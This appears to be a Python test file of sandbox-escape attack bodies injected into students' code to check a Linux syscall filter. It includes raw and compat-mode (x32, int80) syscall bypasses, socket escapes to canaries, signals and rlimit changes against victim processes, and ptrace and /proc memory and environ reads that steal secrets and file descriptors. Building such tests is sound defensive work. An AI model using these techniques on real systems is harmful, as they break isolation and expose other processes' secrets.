# attack bodies, classes a and b (strings pasted into students' files by make_class.py)
A = {}
A["a1_unix_path"] = r'''
def raw_connect(fam, typ, addr, tag):
    fd, e = sc(41, fam, typ, 0)
    if fd < 0:
        info("%s socket errno %s" % (tag, e)); return
    buf = ctypes.create_string_buffer(addr, len(addr))
    r, e = sc(42, fd, buf, len(addr))
    if r == 0:
        msg = ("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()
        sc(1, fd, ctypes.c_char_p(msg), len(msg)); win(tag)
    else:
        info("%s connect errno %s" % (tag, e))
    os.close(fd)

def attack():
    path = CANARY + "/ui.sock"
    for typ, tag in ((socket.SOCK_STREAM, "unix-py"), (socket.SOCK_STREAM | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK, "unix-py-flags")):
        try:
            s = socket.socket(socket.AF_UNIX, typ); s.settimeout(2)
            try: s.connect(path)
            except BlockingIOError: time.sleep(0.2)
            s.sendall(("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()); win(tag); s.close()
        except Exception as e: info("%s %r" % (tag, e))
    addr = struct.pack("H", 1) + path.encode() + b"\0"
    raw_connect(1, 1, addr, "unix-raw")
    raw_connect(1 | (1 << 32), 1, addr, "unix-raw-highbits")      # kernel truncates to int
    raw_connect(1, 5, addr, "unix-raw-seqpacket")
    raw_connect(1, 1 | 0x80000, addr, "unix-raw-cloexec")
    # connect through an O_PATH fd's /proc/self/fd path (Landlock path tricks)
    try:
        ofd = os.open(path, os.O_PATH)
        raw_connect(1, 1, struct.pack("H", 1) + ("/proc/self/fd/%d" % ofd).encode() + b"\0", "unix-raw-opath")
    except Exception as e: info("opath %r" % (e,))
guarded(attack)
'''
A["a2_abstract"] = r'''
def attack():
    for name, typ, tag in ((b"\0heldout-abstract", socket.SOCK_STREAM, "abstract-stream-py"),
                           (b"\0heldout-abstract-dg", socket.SOCK_DGRAM, "abstract-dgram-py")):
        try:
            s = socket.socket(socket.AF_UNIX, typ); s.settimeout(2)
            msg = ("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()
            if typ == socket.SOCK_DGRAM:
                s.sendto(msg, name)
            else:
                s.connect(name); s.sendall(msg)
            win(tag); s.close()
        except Exception as e: info("%s %r" % (tag, e))
    # raw: socket + connect with an abstract sockaddr
    for typ, tag in ((1, "abstract-raw"), (1 | (7 << 32), "abstract-raw-highbits")):
        fd, e = sc(41, 1, typ, 0)
        if fd < 0: info("raw socket errno %s" % e); continue
        addr = struct.pack("H", 1) + b"\0heldout-abstract"
        buf = ctypes.create_string_buffer(addr, len(addr))
        r, e = sc(42, fd, buf, len(addr))
        if r == 0:
            msg = ("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()
            sc(1, fd, ctypes.c_char_p(msg), len(msg)); win(tag)
        else: info("%s errno %s" % (tag, e))
        os.close(fd)
    # bind our own abstract name (classmates could find it); runner watches /proc/net/unix
    try:
        b = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); b.bind(b"\0heldout-bound-a2"); b.listen(1)
        win("abstract-bind"); globals()["_keep"] = b; time.sleep(2)
    except Exception as e: info("bind %r" % (e,))
guarded(attack)
'''
A["a3_tcp_udp"] = r'''
def raw_inet(fam, typ, addr, tag, use_sendto=False, flags=0):
    fd, e = sc(41, fam, typ, 0)
    if fd < 0: info("%s socket errno %s" % (tag, e)); return
    buf = ctypes.create_string_buffer(addr, len(addr))
    msg = ("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()
    if use_sendto:
        r, e = sc(44, fd, ctypes.c_char_p(msg), len(msg), flags, buf, len(addr))
        if r > 0: win(tag)
        else: info("%s sendto errno %s" % (tag, e))
    else:
        r, e = sc(42, fd, buf, len(addr))
        if r == 0: sc(1, fd, ctypes.c_char_p(msg), len(msg)); win(tag)
        else: info("%s connect errno %s" % (tag, e))
    os.close(fd)

def attack():
    for fam, host, tag in ((socket.AF_INET, "127.0.0.1", "tcp4-py"), (socket.AF_INET6, "::1", "tcp6-py")):
        try:
            s = socket.create_connection((host, 47931), timeout=2)
            s.sendall(("HELDOUT-SUCCESS:%s:%s\n" % (SID, tag)).encode()); win(tag); s.close()
        except Exception as e: info("%s %r" % (tag, e))
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(("HELDOUT-SUCCESS:%s:udp-py\n" % SID).encode(), ("127.0.0.1", 47932)); win("udp-py")
    except Exception as e: info("udp %r" % (e,))
    a4 = struct.pack("!HH4s8x", 0, 47931, socket.inet_aton("127.0.0.1")); a4 = struct.pack("H", 2) + a4[2:]
    u4 = struct.pack("H", 2) + struct.pack("!H4s8x", 47932, socket.inet_aton("127.0.0.1"))
    raw_inet(2, 1, a4, "tcp4-raw")
    raw_inet(2 | (1 << 32), 1, a4, "tcp4-raw-highbits")
    raw_inet(2, 1, a4, "tcp4-fastopen", use_sendto=True, flags=0x20000000)   # MSG_FASTOPEN: no connect()
    raw_inet(2, 2, u4, "udp4-raw-sendto", use_sendto=True)
guarded(attack)
'''
A["a4_netlink_raw"] = r'''
def attack():
    for fam, typ, proto, tag in ((16, 3, 0, "netlink-route"), (16, 3, 9, "netlink-audit"),
                                 (17, 3, 0x0300, "packet"), (2, 3, 1, "raw-icmp"), (2, 2, 1, "ping-dgram"),
                                 (40, 1, 0, "vsock"), (38, 5, 0, "af-alg"), (10, 3, 58, "raw-icmp6"),
                                 (1, 2, 0, "unix-dgram-unbound")):
        fd, e = sc(41, fam, typ, proto)
        if fd >= 0:
            win("socket-" + tag); os.close(fd)
        else: info("%s errno %s" % (tag, e))
    r, e = sc(53, 1, 1, 0, ctypes.create_string_buffer(8))
    if r == 0: win("socketpair-minor")
    else: info("socketpair errno %s" % e)
guarded(attack)
'''
A["a5_iouring_misc"] = r'''
def attack():
    params = ctypes.create_string_buffer(120)
    fd, e = sc(425, 8, params)
    if fd >= 0: win("io_uring_setup"); os.close(fd)
    else: info("io_uring errno %s" % e)
    fd, e = sc(323, 0)
    if fd >= 0: win("userfaultfd"); os.close(fd)
    else: info("userfaultfd errno %s" % e)
    fd, e = sc(300, 0, 0)
    if fd >= 0: win("fanotify_init"); os.close(fd)
    else: info("fanotify errno %s" % e)
    fd, e = sc(253)  # inotify_init: harmless, allowed is fine
    info("inotify %s %s" % (fd, e))
guarded(attack)
'''
A["a6_compat_syscalls"] = r'''
X32 = 0x40000000
def attack():
    fd, e = sc(X32 | 41, 1, 1, 0)
    if fd >= 0:
        win("x32-socket")
        path = CANARY + "/ui.sock"; addr = struct.pack("H", 1) + path.encode() + b"\0"
        r, e = sc(X32 | 42, fd, ctypes.create_string_buffer(addr, len(addr)), len(addr))
        if r == 0:
            msg = ("HELDOUT-SUCCESS:%s:x32-connect\n" % SID).encode(); sc(1, fd, ctypes.c_char_p(msg), len(msg)); win("x32-connect")
    else: info("x32 socket errno %s" % e)
    victim = read_pid("victim.pid")
    if victim:
        r, e = sc(X32 | 141, 0, victim, 5)
        if r == 0: win("x32-setpriority")
guarded(attack)

def int80_attack():
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    MAP_32BIT = 0x40
    mem = libc.mmap(None, 8192, 7, 0x22 | MAP_32BIT, -1, 0)
    if not mem or mem == ctypes.c_void_p(-1).value:
        mem = libc.mmap(None, 8192, 3, 0x22 | MAP_32BIT, -1, 0)
        info("rwx mmap refused, rw at %r" % mem)
    code = bytes.fromhex("53" "89f8" "89f3" "4989c8" "89d1" "4489c2" "cd80" "4863c0" "5b" "c3")
    ctypes.memmove(mem, code, len(code))
    if libc.mprotect(ctypes.c_void_p(mem & ~4095), 4096, 5) != 0:
        info("mprotect exec refused"); return
    f = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)(mem)
    pid = f(20, 0, 0, 0)     # i386 getpid
    info("int80 getpid -> %d (real %d)" % (pid, os.getpid()))
    if pid != os.getpid(): return
    win("int80-works")
    data = mem + 4096
    path = CANARY + "/ui.sock"; addr = struct.pack("H", 1) + path.encode() + b"\0"
    fd = f(359, 1, 1, 0)     # i386 socket
    if fd < 0:  # socketcall(SYS_SOCKET)
        ctypes.memmove(data, struct.pack("III", 1, 1, 0), 12); fd = f(102, 1, data, 0)
    if fd >= 0:
        win("int80-socket")
        ctypes.memmove(data + 64, addr, len(addr))
        r = f(362, fd, data + 64, len(addr))
        if r == 0:
            msg = ("HELDOUT-SUCCESS:%s:int80-connect\n" % SID).encode(); os.write(fd, msg); win("int80-connect")
        else: info("int80 connect %d" % r)
    else: info("int80 socket %d" % fd)
    victim = read_pid("victim.pid")
    if victim:
        if f(97, 0, victim, 3) == 0: win("int80-setpriority")
    kv = read_pid("victim-kill.pid")
    if kv and f(37, kv, 15, 0) == 0: win("int80-kill")

def PART_HOOK(part):
    if part == "softmax":
        guarded(int80_attack)
'''
A["b1_prlimit_victim"] = r'''
def find_victim(name, argv0):
    p = read_pid(name)
    if p: return p
    try:
        for d in os.listdir("/proc"):
            if d.isdigit():
                try:
                    with open("/proc/%s/cmdline" % d, "rb") as f:
                        if f.read().split(b"\0")[0] == argv0: return int(d)
                except Exception: pass
    except Exception as e: info("proc scan %r" % (e,))
    return None

def attack():
    v = find_victim("victim.pid", b"heldout-victim")
    info("victim %r" % v)
    if not v: return
    new = (ctypes.c_ulong * 2)(33, 33)
    r, e = sc(302, v, 7, new, 0)
    if r == 0: win("prlimit-raw-nofile")
    else: info("prlimit raw errno %s" % e)
    r, e = sc(302, v | (1 << 32), 7, new, 0)
    if r == 0: win("prlimit-raw-highbits")
    try:
        import resource
        resource.prlimit(v, resource.RLIMIT_MSGQUEUE, (4321, 4321)); win("prlimit-py-msgqueue")
    except Exception as e: info("prlimit py %r" % (e,))
guarded(attack)
'''
A["b2_prlimit_parent"] = r'''
def attack():
    targets = {os.getppid(): "ppid"}
    try: targets.setdefault(os.getpgid(0), "pgrp-leader")
    except Exception: pass
    try: targets.setdefault(os.getsid(0), "session-leader")
    except Exception: pass
    targets.pop(os.getpid(), None); targets.pop(1, None); targets.pop(0, None)
    for pid, tag in targets.items():
        new = (ctypes.c_ulong * 2)(7777, 7777)
        r, e = sc(302, pid, 0, new, 0)          # RLIMIT_CPU 7777 s: harmless, but visible
        if r == 0: win("prlimit-cpu-" + tag, pid)
        else: info("prlimit cpu %s errno %s" % (tag, e))
        new = (ctypes.c_ulong * 2)(333, 4096)
        r, e = sc(302, pid, 7, new, 0)          # RLIMIT_NOFILE soft 333
        if r == 0: win("prlimit-nofile-" + tag, pid)
guarded(attack)
'''
A["b3_setpriority"] = r'''
def attack():
    v = read_pid("victim.pid")
    if not v: return
    uid = 65534
    try:
        for l in open("/proc/%d/status" % v):
            if l.startswith("Uid:"): uid = int(l.split()[1])
    except Exception as e: info("status %r" % (e,))
    r, e = sc(141, 2, uid, 13)
    if r == 0: win("setpriority-user")
    else: info("prio user errno %s" % e)
    r, pg = sc(121, v)
    pgid = r if r > 0 else v
    r, e = sc(141, 1, pgid, 11)
    if r == 0: win("setpriority-pgrp")
    else: info("prio pgrp errno %s" % e)
    r, e = sc(141, 0, v, 7)
    if r == 0: win("setpriority-process-raw")
    else: info("prio proc errno %s" % e)
    try: os.setpriority(os.PRIO_PROCESS, v, 9); win("setpriority-process-py")
    except Exception as e: info("py prio %r" % (e,))
    r, e = sc(141, 0, os.getppid(), 19)
    if r == 0: win("setpriority-parent")
guarded(attack)
'''
A["b4_sched"] = r'''
def attack():
    v = read_pid("victim.pid")
    if not v: return
    mask = ctypes.c_ulong(1)
    r, e = sc(203, v, 8, ctypes.byref(mask))
    if r == 0: win("sched_setaffinity-victim")
    else: info("affinity errno %s" % e)
    param = ctypes.c_int(0)
    r, e = sc(144, v, 5, ctypes.byref(param))   # SCHED_IDLE
    if r == 0: win("sched_setscheduler-victim")
    else: info("sched errno %s" % e)
    r, e = sc(251, 1, v, (3 << 13) | 0)        # ioprio idle
    if r == 0: win("ioprio_set-victim")
    else: info("ioprio errno %s" % e)
    r, e = sc(203, os.getppid(), 8, ctypes.byref(mask))
    if r == 0: win("sched_setaffinity-parent")
guarded(attack)
'''
A["b5_kill"] = r'''
def alive(p):
    try: os.kill(p, 0); return True
    except ProcessLookupError: return False
    except Exception: return None

def attack():
    v = read_pid("victim-kill.pid")
    if not v: return
    r, e = sc(62, v, 15)
    if r == 0: win("kill-raw")
    else: info("kill errno %s" % e)
    r, e = sc(234, v, v, 15)
    if r == 0: win("tgkill")
    else: info("tgkill errno %s" % e)
    pfd, e = sc(434, v, 0)
    if pfd >= 0:
        win("pidfd_open-minor")
        r, e = sc(424, pfd, 15, 0, 0)
        if r == 0: win("pidfd_send_signal")
        else: info("pidfd_send_signal errno %s" % e)
    else: info("pidfd_open errno %s" % e)
    si = ctypes.create_string_buffer(128); struct.pack_into("iii", si, 0, 15, 0, -1)
    r, e = sc(129, v, 15, si)
    if r == 0: win("rt_sigqueueinfo")
    else: info("sigqueue errno %s" % e)
    try: os.kill(v, 9); win("kill-py")
    except Exception as e: info("py kill %r" % (e,))
    r, e = sc(62, os.getppid(), 0)
    if r == 0: win("kill-parent-probe-minor")
    r, e = sc(62, os.getppid(), 18)   # SIGCONT: harmless
    if r == 0: win("kill-parent-sigcont")
guarded(attack)
'''
A["b6_ptrace_mem"] = r'''
SECRET_SEEN = []
def attack():
    v = read_pid("victim.pid"); pp = os.getppid()
    for pid, tag in ((v, "victim"), (pp, "parent")):
        if not pid: continue
        r, e = sc(101, 0x4206, pid, 0, 0)     # PTRACE_SEIZE
        if r == 0:
            win("ptrace-seize-" + tag); sc(101, 17, pid, 0, 0)   # PTRACE_DETACH
        else: info("seize %s errno %s" % (tag, e))
        for what in ("environ", "cmdline", "maps"):
            try:
                with open("/proc/%d/%s" % (pid, what), "rb") as f: data = f.read(65536)
                if what == "environ":
                    win("read-environ-" + tag, data.replace(b"\0", b" ")[:300])
                    if b"HELDOUT_VICTIM_SECRET" in data: SECRET_SEEN.append(data)
                else: info("read %s %s ok" % (tag, what))
            except Exception as e: info("%s %s %r" % (tag, what, e))
    # the child is forked from the helper: our addresses are valid in the parent
    obj = ctypes.create_string_buffer(64)
    addr = id(sys.modules)
    local = (ctypes.c_char * 64)()
    liov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 64)
    riov = (ctypes.c_void_p * 2)(addr, 64)
    r, e = sc(310, pp, liov, 1, riov, 1, 0)
    if r > 0: win("process_vm_readv-parent", r)
    else: info("vm_readv errno %s" % e)
    try:
        fd = os.open("/proc/%d/mem" % pp, os.O_RDONLY)
        d = os.pread(fd, 64, addr); win("proc-mem-parent", len(d))
    except Exception as e: info("proc mem %r" % (e,))
    pfd, e = sc(434, pp, 0)
    if pfd >= 0:
        stolen = 0
        for n in range(0, 40):
            r, e2 = sc(438, pfd, n, 0)
            if r >= 0: stolen += 1
        if stolen: win("pidfd_getfd-parent", stolen)
        else: info("pidfd_getfd none")
guarded(attack)
'''
